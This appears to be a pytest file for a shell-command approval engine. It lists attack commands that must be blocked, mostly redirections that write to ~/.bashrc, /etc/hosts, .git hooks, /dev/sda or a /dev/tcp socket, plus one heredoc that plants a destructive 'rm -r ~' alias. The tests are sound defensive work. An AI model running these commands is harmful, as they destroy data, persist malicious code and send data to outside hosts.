"""Attacks on the approval engine by redirections: on groups, subshells, loops and functions
(docs/SPEC.md §4.1-4.4, §4.7-4.8).

Rows, holes and what each asserts: tests/support/attacks.py.
"""

from __future__ import annotations

import pytest

from saikish.types import Autonomy
from saikish.types import ReasonKind as Why
from tests.support.attacks import A, Attack, assert_blocked, context, params

# -- redirections on groups, subshells, loops, functions --------------------------------

REDIRECTS = [
    A("{ echo x; } >> ~/.bashrc", "> ~/.bashrc", Why.WRITES),
    A("(echo x) > ~/.profile", "> ~/.profile", Why.WRITES),
    A("for i in 1; do echo $i; done > /etc/x", "> /etc/x", Why.WRITES),
    A("while false; do :; done > ~/.bashrc", "> ~/.bashrc", Why.WRITES),
    A("if true; then echo; fi > ~/.bashrc", "> ~/.bashrc", Why.WRITES),
    A("f() { echo x; } > ~/.bashrc; f", "> ~/.bashrc", Why.WRITES),
    A("case x in *) echo;; esac > ~/.bashrc", "> ~/.bashrc", Why.WRITES),
    A("until true; do :; done > ~/.bashrc", "> ~/.bashrc", Why.WRITES),
    A("echo x > \"$HOME/.bashrc\"", "> ~/.bashrc", Why.WRITES),
    A("echo x >| ~/.bashrc", "> ~/.bashrc", Why.WRITES),
    A("echo x &> ~/.bashrc", "> ~/.bashrc", Why.WRITES),
    A("echo x &>> ~/.bashrc", "> ~/.bashrc", Why.WRITES),
    A("echo x 2> ~/.bashrc", "> ~/.bashrc", Why.WRITES),
    A("echo x 3> ~/.bashrc", "> ~/.bashrc", Why.WRITES),
    A("cat <> ~/.bashrc", "> ~/.bashrc", Why.WRITES),
    A("echo x > /dev/tcp/1.2.3.4/80", "> /dev/tcp/1.2.3.4/80", Why.WRITES),
    A("echo x |& tee ~/.bashrc", "writes ~/.bashrc", Why.WRITES),
    A("printf '%s' x > /etc/x", "> /etc/x", Why.WRITES),
    A("echo 'x' >> .git/hooks/pre-commit", "> .git/hooks/pre-commit", Why.WRITES),
    A("echo x > .git/config", "> .git/config", Why.WRITES),
    A("exec 3>~/.bashrc", "> ~/.bashrc", Why.WRITES),
    A("exec > ~/.bashrc", "> ~/.bashrc", Why.WRITES),
    A('echo x > docs/../../etc/x.md', '> docs/../../etc/x.md', Why.WRITES),
    A("echo x > ../outside", "> ", Why.WRITES),
    A("{ { echo; } > ~/.a; } > ~/.b", "> ~/.a", Why.WRITES),
    A("(cd /tmp; echo x) > ~/.bashrc", "> ~/.bashrc", Why.WRITES),
    A("cat > ~/.bashrc <<'EOF'\nalias ls='rm -r ~'\nEOF", "> ~/.bashrc", Why.WRITES),
    A("ls > /dev/sda", "> /dev/sda", Why.WRITES),
    A("echo x >> /etc/hosts", "> /etc/hosts", Why.WRITES),
]


@pytest.mark.parametrize(("row", "autonomy"), params(REDIRECTS))
def test_attack_is_blocked_by_the_part_it_names(row: Attack, autonomy: Autonomy) -> None:
    """Under the permissive prefix rules people write (tests/support/attacks.py)."""
    assert_blocked(row, context(autonomy))
